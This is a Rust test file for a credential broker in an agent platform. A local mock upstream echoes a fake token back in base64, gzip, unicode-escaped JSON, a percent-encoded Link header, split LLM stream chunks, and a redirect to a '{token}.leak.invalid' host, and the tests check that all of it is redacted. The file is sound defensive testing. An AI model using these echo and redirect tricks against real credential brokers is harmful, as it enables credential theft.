//! Attacks on the credential broker, end to end: an upstream on the connection's list
//! echoes the credential in every way the broker must catch, and an agent reads what it
//! gets; the run's output and its stored events must not hold the secret in any form.
//! Plus the checks where a credential may go (save-time and before sending).

use std::io::Write;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

use axum::http::HeaderMap;
use axum::response::{IntoResponse, Redirect, Response};
use axum::routing::{get, post};
use axum::Router;
use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};

use super::broker::host_of;
use super::TestApi;

const TOKEN: &str = "tok7leak3secret9x";
const USER: &str = "sk_live_user42z";

/// Every form of the secrets an upstream below hands back.
fn leaks(text: &str) -> Vec<String> {
    let mut forms = Vec::new();
    for secret in [TOKEN.to_owned(), USER.to_owned(), format!("Bearer {TOKEN}")] {
        let escaped: String = secret
            .chars()
            .map(|c| format!("\\\\u{:04x}", c as u32))
            .collect();
        let pct: String = secret.bytes().map(|b| format!("%{b:02x}")).collect();
        forms.extend([secret.clone(), STANDARD.encode(&secret), escaped, pct]);
    }
    forms
        .into_iter()
        .filter(|f| text.contains(f.as_str()))
        .collect()
}

fn auth(headers: &HeaderMap) -> String {
    headers
        .get("authorization")
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
        .to_owned()
}

/// An upstream that reflects the credential, one way per route; counts requests.
async fn upstream(hits: Arc<AtomicUsize>) -> String {
    let app = Router::new()
        .route("/b64", get(|headers: HeaderMap| async move { STANDARD.encode(auth(&headers)) }))
        .route(
            "/header-name",
            get(|headers: HeaderMap| async move {
                let token = auth(&headers).trim_start_matches("Bearer ").to_owned();
                ([(format!("x-{token}"), "1".to_owned())], "ok").into_response()
            }),
        )
        .route(
            "/gzip",
            get(|headers: HeaderMap| async move {
                let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
                let _ = gz.write_all(format!("you sent {}", auth(&headers)).as_bytes());
                ([("content-encoding", "gzip")], gz.finish().unwrap_or_default()).into_response()
            }),
        )
        .route(
            "/json",
            get(|headers: HeaderMap| async move {
                let escaped: String =
                    auth(&headers).chars().map(|c| format!("\\u{:04x}", c as u32)).collect();
                ([("content-type", "application/json")], format!("{{\"auth\":\"{escaped}\"}}"))
                    .into_response()
            }),
        )
        .route(
            "/link",
            get(|headers: HeaderMap| async move {
                let pct: String = auth(&headers).bytes().map(|b| format!("%{b:02x}")).collect();
                ([("link", format!("</next?a={pct}>; rel=\"next\""))], "ok").into_response()
            }),
        )
        .route(
            "/basic",
            get(|headers: HeaderMap| async move {
                let b64 = auth(&headers).trim_start_matches("Basic ").to_owned();
                let pair = String::from_utf8(STANDARD.decode(b64).unwrap_or_default()).unwrap_or_default();
                format!("hello {}", pair.split(':').next().unwrap_or(""))
            }),
        )
        .route(
            "/redirect",
            get(|headers: HeaderMap| async move {
                let token = auth(&headers).trim_start_matches("Bearer ").to_owned();
                Redirect::temporary(&format!("http://{token}.leak.invalid/")).into_response()
            }),
        )
        .route(
            "/tool",
            post(|headers: HeaderMap| async move {
                let token = auth(&headers).trim_start_matches("Bearer ").to_owned();
                Redirect::temporary(&format!("http://{token}.leak.invalid/")).into_response()
            }),
        )
        .route(
            "/v1/chat/completions",
            post(|headers: HeaderMap| async move {
                let key = auth(&headers);
                let (a, b) = key.split_at(key.len() / 2);
                let mut sse = String::new();
                for piece in ["You sent: ", a, b, "."] {
                    let chunk = json!({ "choices": [{ "index": 0, "delta": { "content": piece } }] });
                    sse.push_str(&format!("data: {chunk}\n\n"));
                }
                sse.push_str("data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n");
                ([("content-type", "text/event-stream")], sse).into_response()
            }),
        )
        .layer(axum::middleware::from_fn(
            move |req: axum::extract::Request, next: axum::middleware::Next| {
                hits.fetch_add(1, Ordering::SeqCst);
                async move {
                    let response: Response = next.run(req).await;
                    response
                }
            },
        ));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let addr = listener.local_addr().expect("addr");
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    format!("http://{addr}")
}

/// An agent that fetches `input.url` with `input.connection` and returns what it got
/// (or the error it caught), so the test sees everything the agent saw.
async fn deploy_probe(api: &TestApi, key: &str) {
    let main = r#"
export default async (input, ctx) => {
  try {
    const res = await fetch(input.url, { connection: input.connection });
    const headers = [];
    res.headers.forEach((v, k) => headers.push([k, v]));
    return { status: res.status, url: res.url, headers, body: await res.text() };
  } catch (e) {
    return { error: { code: e.code ?? null, message: String(e.message) } };
  }
};"#;
    let upload = json!({
        "manifest": { "name": "@t/probe", "version": "1.0.0",
            "permissions": { "fetch": ["127.0.0.1"], "connections": ["leaky", "basic"] } },
        "files": { "main.js": main }
    });
    let (status, body) = api
        .call(
            Method::PUT,
            "/v1/agents/t/probe/versions/1.0.0",
            key,
            Some(upload),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
}

async fn put(api: &TestApi, key: &str, name: &str, body: Value) -> (StatusCode, Value) {
    api.call(
        Method::PUT,
        &format!("/v1/connections/{name}"),
        key,
        Some(body),
    )
    .await
}

/// Runs the probe; returns its output and the run's stored events, after checking that
/// neither holds the secret in any form.
async fn probe(api: &TestApi, key: &str, url: String, connection: &str) -> Value {
    let (_, run) = api
        .call(
            Method::POST,
            "/v1/agents/t/probe/runs?wait=20",
            key,
            Some(json!({ "input": { "url": url, "connection": connection } })),
        )
        .await;
    assert_eq!(run["status"], "succeeded", "{run}");
    let events = super::events_text(api, key, run["id"].as_str().expect("id")).await;
    assert!(
        leaks(&run.to_string()).is_empty(),
        "{:?} in {run}",
        leaks(&run.to_string())
    );
    assert!(
        leaks(&events).is_empty(),
        "{:?} in events {events}",
        leaks(&events)
    );
    run["output"].clone()
}

#[tokio::test]
async fn echoes_of_the_credential_never_reach_the_agent_or_its_events() {
    let api = TestApi::start().await;
    let (_org, _app, key) = api.tenant().await;
    let base = upstream(Arc::default()).await;
    let hosts = json!([host_of(&base)]);
    let (status, body) = put(
        &api,
        &key,
        "leaky",
        json!({ "type": "bearer", "token": TOKEN, "hosts": hosts, "allow_http": true }),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let (status, body) = put(&api, &key, "basic", json!({ "type": "basic", "username": USER, "password": "", "hosts": hosts, "allow_http": true })).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    deploy_probe(&api, &key).await;

    let out = probe(&api, &key, format!("{base}/b64"), "leaky").await;
    assert_eq!(out["body"], "[redacted]", "{out}");
    let out = probe(&api, &key, format!("{base}/header-name"), "leaky").await;
    assert_eq!(out["body"], "ok", "{out}");
    let out = probe(&api, &key, format!("{base}/gzip"), "leaky").await;
    assert_eq!(
        out["body"], "you sent [redacted]",
        "the body arrives decoded: {out}"
    );
    let out = probe(&api, &key, format!("{base}/json"), "leaky").await;
    assert_eq!(out["body"], "{\"auth\":\"[redacted]\"}", "{out}");
    let out = probe(&api, &key, format!("{base}/link"), "leaky").await;
    let link = out["headers"]
        .as_array()
        .expect("headers")
        .iter()
        .find(|h| h[0] == "link")
        .cloned();
    assert_eq!(
        link,
        Some(json!(["link", "</next?a=[redacted]>; rel=\"next\""])),
        "{out}"
    );
    let out = probe(&api, &key, format!("{base}/basic"), "basic").await;
    assert_eq!(out["body"], "hello [redacted]", "{out}");
    let out = probe(&api, &key, format!("{base}/redirect"), "leaky").await;
    assert_eq!(out["error"]["code"], "fetch_host_not_allowed", "{out}");
    assert!(
        out["error"]["message"]
            .as_str()
            .unwrap_or("")
            .contains("[redacted].leak.invalid"),
        "{out}"
    );
    api.stop().await;
}

#[tokio::test]
async fn a_tools_error_message_in_its_tool_result_event_is_scrubbed() {
    let api = TestApi::start().await;
    let (_org, _app, key) = api.tenant().await;
    let base = upstream(Arc::default()).await;
    let (status, _) = put(
        &api,
        &key,
        "crm",
        json!({ "type": "bearer", "token": TOKEN, "hosts": [host_of(&base)], "allow_http": true }),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED);
    let run = run_tool_user(&api, &key, &format!("{base}/tool")).await;
    assert_eq!(run["status"], "failed", "{run}");
    let events = super::events_text(&api, &key, run["id"].as_str().expect("id")).await;
    assert!(events.contains("event: tool.result"), "{events}");
    assert!(events.contains("[redacted].leak.invalid"), "{events}");
    assert!(leaks(&events).is_empty(), "{:?}: {events}", leaks(&events));
    assert!(leaks(&run.to_string()).is_empty(), "{run}");
    api.stop().await;
}

#[tokio::test]
async fn an_llm_that_echoes_its_key_leaves_it_in_neither_the_message_nor_the_deltas() {
    let api = TestApi::start().await;
    let (_org, _app, key) = api.tenant().await;
    let base = upstream(Arc::default()).await;
    let (status, body) = put(
        &api,
        &key,
        "echo",
        json!({ "type": "bearer", "token": TOKEN, "hosts": [host_of(&base)], "allow_http": true,
        "provider": { "kind": "openai", "base_url": format!("{base}/v1") } }),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let upload = json!({
        "manifest": { "name": "@t/asker", "version": "1.0.0", "permissions": { "llm": ["echo/*"] } },
        "files": { "main.js": "export default async (i, ctx) => (await ctx.llm.chat({ model: 'echo/m', messages: [{ role: 'user', content: 'hi' }] })).message;" }
    });
    let (status, _) = api
        .call(
            Method::PUT,
            "/v1/agents/t/asker/versions/1.0.0",
            &key,
            Some(upload),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED);
    let (_, run) = api
        .call(
            Method::POST,
            "/v1/agents/t/asker/runs?wait=20",
            &key,
            Some(json!({})),
        )
        .await;
    assert_eq!(run["status"], "succeeded", "{run}");
    assert_eq!(run["output"]["content"], "You sent: [redacted].", "{run}");
    let events = super::events_text(&api, &key, run["id"].as_str().expect("id")).await;
    assert!(events.contains("event: llm.delta"), "{events}");
    // Split across deltas: neither half may show.
    for half in [&TOKEN[..8], &TOKEN[8..]] {
        assert!(!events.contains(half), "{half} in {events}");
    }
    assert!(leaks(&events).is_empty(), "{events}");
    api.stop().await;
}

#[tokio::test]
async fn where_a_credential_may_go_is_checked_at_save_and_before_sending() {
    let api = TestApi::start().await;
    let (_org, _app, key) = api.tenant().await;
    let hits = Arc::new(AtomicUsize::new(0));
    let base = upstream(hits.clone()).await;
    for hosts in [
        json!(["*.com"]),
        json!(["*.co.uk"]),
        json!(["*"]),
        json!(["http://x.example.com"]),
    ] {
        let (status, body) = put(
            &api,
            &key,
            "leaky",
            json!({ "type": "bearer", "token": TOKEN, "hosts": hosts }),
        )
        .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{hosts}: {body}");
        assert!(
            body["detail"].as_str().is_some_and(|d| d.contains("hosts")),
            "{body}"
        );
    }
    // A provider whose base_url is not on the connection's list is refused when saved.
    let (status, body) = put(
        &api,
        &key,
        "openai",
        json!({ "type": "bearer", "token": TOKEN, "hosts": ["api.openai.com"],
        "provider": { "kind": "openai", "base_url": format!("{base}/v1") } }),
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert!(
        body["detail"]
            .as_str()
            .is_some_and(|d| d.contains("provider.base_url")),
        "{body}"
    );

    deploy_probe(&api, &key).await;
    // Plain http without allow_http, then a port that is not listed: nothing is sent.
    for (body, code) in [
        (
            json!({ "type": "bearer", "token": TOKEN, "hosts": [host_of(&base)] }),
            "connection_scheme_not_allowed",
        ),
        (
            json!({ "type": "bearer", "token": TOKEN, "hosts": ["127.0.0.1"], "allow_http": true }),
            "connection_port_not_allowed",
        ),
    ] {
        let (status, answer) = put(&api, &key, "leaky", body).await;
        assert!(status.is_success(), "{answer}");
        let out = probe(&api, &key, format!("{base}/b64"), "leaky").await;
        assert_eq!(out["error"]["code"], code, "{out}");
    }
    assert_eq!(
        hits.load(Ordering::SeqCst),
        0,
        "the upstream was never contacted"
    );
    api.stop().await;
}

#[tokio::test]
async fn a_tool_on_an_ipv6_literal_can_be_called() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut args = super::args_for(dir.path()).await;
    args.allow_net.push("::1/128".into());
    let api = TestApi::start_with(args, dir).await;
    let (_org, _app, key) = api.tenant().await;
    let app = Router::new().route(
        "/tool",
        post(|| async { axum::Json(json!({ "name": "Ada" })) }),
    );
    let listener = tokio::net::TcpListener::bind("[::1]:0")
        .await
        .expect("bind ::1");
    let port = listener.local_addr().expect("addr").port();
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    let (status, _) = put(&api, &key, "crm", json!({ "type": "bearer", "token": TOKEN, "hosts": [format!("[::1]:{port}")], "allow_http": true })).await;
    assert_eq!(status, StatusCode::CREATED);
    let run = run_tool_user(&api, &key, &format!("http://[::1]:{port}/tool")).await;
    assert_eq!(run["status"], "succeeded", "{run}");
    assert_eq!(run["output"], json!({ "customer": { "name": "Ada" } }));
    api.stop().await;
}

/// Registers `tool_url` as `lookup_customer` with the `crm` connection, deploys the
/// `tool-user` agent and answers its finished run.
async fn run_tool_user(api: &TestApi, key: &str, tool_url: &str) -> Value {
    super::broker::put_lookup_tool(api, key, tool_url, Some("crm")).await;
    api.deploy(key, "tool-user").await;
    let (_, run) = api
        .call(
            Method::POST,
            "/v1/agents/atoll/tool-user/runs?wait=20",
            key,
            Some(json!({ "input": { "customer_id": "c_1" } })),
        )
        .await;
    run
}
